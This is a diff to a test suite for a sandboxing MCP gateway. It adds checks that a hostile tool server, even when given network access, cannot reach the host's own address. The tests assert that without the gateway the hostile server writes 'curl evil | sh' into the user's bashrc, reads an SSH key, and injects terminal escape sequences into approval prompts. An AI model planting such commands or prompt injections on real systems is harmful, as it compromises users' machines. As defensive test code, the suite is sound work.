@@ -58,7 +58,8 @@ class Machine:
     key: Path
     bashrc: Path
     workspaces: dict[str, Path]
-    loopback_port: int
+    loopback_port: int                 # a TCP service of the host, on every address
+    host_address: str                  # the host's own address on its network (the default route's source)
     daemon_socket: str
     approval_channel: str              # the user's own `sandboxd mcp --http unix:PATH`
     listener: Any = field(repr=False)
@@ -68,6 +69,13 @@ class Machine:
 
     def env(self) -> dict[str, str]:
         return {"PATH": STD_PATH, "LANG": "C.UTF-8", "HOME": str(self.home), "USER": self.user.name}
+
+
+def host_address() -> str:
+    """The source address of the host's default route (its own address on its network)."""
+    route = subprocess.run(["ip", "-4", "-o", "route", "get", "192.0.2.123"], capture_output=True, text=True,
+                           check=True, timeout=30).stdout.split()
+    return route[route.index("src") + 1]
 
 
 def _git(*args: str, cwd: Path) -> None:
@@ -80,14 +88,15 @@ def machine(daemon: Daemon) -> Iterator[Machine]:  # noqa: F811
 
     base = Path(daemon.socket).parents[1]
     with plain_users(1) as (user,), socket.socket() as listener:
-        listener.bind(("127.0.0.1", 0))
+        listener.bind(("0.0.0.0", 0))          # the host's loopback and its own address on the network
         listener.listen(64)
         home = base / f"home-{uuid.uuid4().hex[:8]}"
         (home / ".ssh").mkdir(parents=True)
         key, bashrc = home / ".ssh" / "id_rsa", home / ".bashrc"
         key.write_text(f"FAKE PRIVATE KEY {uuid.uuid4().hex}\n")
         bashrc.write_text("# the user's own\n")
-        workspaces = {name: base / f"ws-{name}-{uuid.uuid4().hex[:8]}" for name in ("fs", "git", "hostile")}
+        workspaces = {name: base / f"ws-{name}-{uuid.uuid4().hex[:8]}"
+                      for name in ("fs", "git", "hostile", "hostile-net")}
         for path in workspaces.values():
             path.mkdir()
         (workspaces["fs"] / "hello.txt").write_text("hello from the filesystem server's workspace\n")
@@ -109,8 +118,8 @@ def machine(daemon: Daemon) -> Iterator[Machine]:  # noqa: F811
         try:
             with http_server(daemon.socket, workspaces["hostile"], f"unix:{channel}/mcp.sock", "--approval", "always",
                              log=base / f"{channel.name}.log", as_user=(user.uid, user.gid)):
-                yield Machine(user, home, key, bashrc, workspaces, listener.getsockname()[1], daemon.socket,
-                              f"{channel}/mcp.sock", listener)
+                yield Machine(user, home, key, bashrc, workspaces, listener.getsockname()[1], host_address(),
+                              daemon.socket, f"{channel}/mcp.sock", listener)
         finally:
             for path in [home, channel, *workspaces.values()]:
                 subprocess.run(["rm", "-rf", str(path)], check=False, timeout=60)
@@ -165,6 +174,7 @@ def attacks(machine: Machine) -> dict[str, tuple[str, dict[str, Any]]]:
         "daemon": ("connect_daemon", {"path": machine.daemon_socket}),
         "approval channel": ("connect_daemon", {"path": machine.approval_channel}),
         "loopback": ("reach_host", {"host": "127.0.0.1", "port": machine.loopback_port}),
+        "host": ("reach_host", {"host": machine.host_address, "port": machine.loopback_port}),
     }
 
 
@@ -187,7 +197,7 @@ def test_without_the_gateway_the_hostile_server_reaches_everything(machine: Mach
     assert seen["bashrc"] == "written" and machine.bashrc.read_text().endswith("curl evil | sh\n"), seen
     assert seen["other upstream"] == "written" and (machine.workspaces["fs"] / "planted").exists(), seen
     assert seen["daemon"] == "open" and seen["approval channel"] == "open", seen
-    assert seen["loopback"] == "open", seen
+    assert seen["loopback"] == "open" and seen["host"] == "open", seen
     assert seen["elicitation"].startswith("answered: ") and seen["sampling"].startswith("answered: "), seen
     assert [kind for kind, _ in asked] == ["elicitation", "sampling"]
     assert "\x1b]0;sandboxd approval\x07" in asked[0][1] and "\x1b[2J" in description
@@ -228,12 +238,13 @@ def test_the_real_servers_run_as_a_plain_user_under_sandboxd_run(machine: Machin
 
 # --------------------------------------------------------------------------- through the gateway
 
-def gateway_config(machine: Machine, base: Path) -> Path:
+def gateway_config(machine: Machine, base: Path, *, with_network: bool = False) -> Path:
     """The gateway file: the filesystem server, the git server and the hostile server, each with
     its own workspace. The real servers are trusted (their read-only annotations count); write_file
     is workspace-write (its annotations say destructive: the sandbox would hide it). The hostile
     server is untrusted, and the person who wrote the file let its tools through as read-only:
-    the policy lets them run, and the kernel alone must stop them."""
+    the policy lets them run, and the kernel alone must stop them. ``with_network``: a second
+    hostile upstream, "hostile-net", with the network (isolated, behind NAT)."""
     ws = machine.workspaces
     hostile_tools = ("echo", "read_ssh", "write_outside", "connect_daemon", "reach_host", "fake_prompt",
                      "ask_person", "sample")
@@ -244,6 +255,9 @@ def gateway_config(machine: Machine, base: Path) -> Path:
         "git": {"command": git_server(ws["git"]), "workspace": str(ws["git"]), "trusted": True},
         "hostile": {"command": [PY, HOSTILE], "workspace": str(ws["hostile"]), "env": {"PYTHONPATH": SITE_PACKAGES},
                     "tools": {tool: {"effect": "read-only"} for tool in hostile_tools}},
+        **({"hostile-net": {"command": [PY, HOSTILE], "workspace": str(ws["hostile-net"]), "network": True,
+                            "env": {"PYTHONPATH": SITE_PACKAGES}, "tools": {"reach_host": {"effect": "read-only"}}}}
+           if with_network else {}),
     }))
     path.chmod(0o644)
     return path
@@ -277,7 +291,8 @@ async def _through_gateway(machine: Machine, command: list[str], sandbox: Sandbo
     seen: dict[str, Any] = {}
     fs_ws, git_ws = machine.workspaces["fs"], machine.workspaces["git"]
     async with direct_client(command, machine.env(), asked) as client:
-        tools = await wait_listed(client, {"fs__read_text_file", "git__git_status", "hostile__read_ssh"})
+        tools = await wait_listed(client, {"fs__read_text_file", "git__git_status", "hostile__read_ssh",
+                                           "hostile-net__reach_host"})
         seen["tools"] = {tool.name: tool for tool in tools}
         seen["prompts"] = {prompt.name: prompt for prompt in (await client.list_prompts()).prompts}
         seen["sessions"] = gateway_sessions(sandbox, machine)
@@ -289,6 +304,8 @@ async def _through_gateway(machine: Machine, command: list[str], sandbox: Sandbo
         for label, (tool, arguments) in {**attacks(machine), "elicitation": ("ask_person", {}),
                                          "sampling": ("sample", {}), "fake": ("fake_prompt", {})}.items():
             seen[label] = text(await client.call_tool(f"hostile__{tool}", arguments))
+        for label in ("loopback", "host"):
+            seen[f"net {label}"] = text(await client.call_tool("hostile-net__reach_host", attacks(machine)[label][1]))
         seen["prompt"] = await client.get_prompt("hostile__fake_approval")
     seen["asked"] = asked
     return seen
@@ -296,7 +313,7 @@ async def _through_gateway(machine: Machine, command: list[str], sandbox: Sandbo
 
 def test_the_gateway_fronts_real_servers_and_walls_the_hostile_one(machine: Machine, daemon: Daemon) -> None:  # noqa: F811
     """The Python SDK's client, configured with only the gateway (approval never)."""
-    config = gateway_config(machine, Path(daemon.socket).parents[1])
+    config = gateway_config(machine, Path(daemon.socket).parents[1], with_network=True)
     with SandboxClient(daemon.socket) as sandbox:
         command = gateway_command(machine, config, "--approval", "never")
         seen = run_async(240, _through_gateway, machine, command, sandbox)
@@ -330,7 +347,10 @@ def test_the_gateway_fronts_real_servers_and_walls_the_hostile_one(machine: Mach
     assert seen["other upstream"].removeprefix("error: ") in WRITE_DENIED_ERRNOS + ("ENOENT",), seen
     assert not (machine.workspaces["fs"] / "planted").exists()
     assert seen["daemon"].startswith("error: ") and seen["approval channel"].startswith("error: "), seen
-    assert seen["loopback"] == "error: ECONNREFUSED", seen
+    assert seen["loopback"] == "error: ECONNREFUSED", seen             # its own namespace's loopback
+    assert seen["host"].startswith("error: "), seen                    # no network at all
+    # With the network (an isolated namespace behind NAT), the host is still out of reach.
+    assert seen["net loopback"] == "error: ECONNREFUSED" and seen["net host"].startswith("error: "), seen
     # Its own requests never reach the client: the gateway refuses them.
     assert seen["elicitation"].startswith("refused: ") and seen["sampling"].startswith("refused: "), seen
     assert seen["asked"] == []
@@ -340,10 +360,10 @@ def test_the_gateway_fronts_real_servers_and_walls_the_hostile_one(machine: Mach
     prompt = seen["prompts"]["hostile__fake_approval"].description
     assert "\x1b" not in prompt and "\\x1b[2J" in prompt, prompt
     assert "\x1b" not in (seen["prompt"].description or "")
-    # Three upstreams, three sessions of the user (each its own workspace), all closed at the end.
+    # Four upstreams, four sessions of the user (each its own workspace), all closed at the end.
     running = seen["sessions"]
-    assert sorted(s.labels["upstream"] for s in running) == ["fs", "git", "hostile"], running
-    assert len({s.id for s in running}) == 3
+    assert sorted(s.labels["upstream"] for s in running) == ["fs", "git", "hostile", "hostile-net"], running
+    assert len({s.id for s in running}) == 4
     assert {s.labels["upstream"]: s.workspace for s in running} == {k: str(v) for k, v in machine.workspaces.items()}
     assert {s.id for s in after} >= {s.id for s in running} and all(s.closed_at > 0 for s in after), after
     # Every call is in the audit log of the gateway's own session: its upstream (and the tool as
@@ -365,7 +385,7 @@ def test_the_gateway_fronts_real_servers_and_walls_the_hostile_one(machine: Mach
     for tool, upstream, arguments in expected:
         assert any(entry[:3] == (tool, upstream, json.dumps(arguments, sort_keys=True))
                    and entry[3].startswith('{"content_bytes": ') for entry in audited), (tool, sorted(audited))
-    assert len(calls) == 14, calls                   # 13 tool calls and the prompt, nothing else
+    assert len(calls) == 17, calls                   # 16 tool calls and the prompt, nothing else
 
 
 async def _held(machine: Machine, command: list[str]) -> dict[str, Any]:
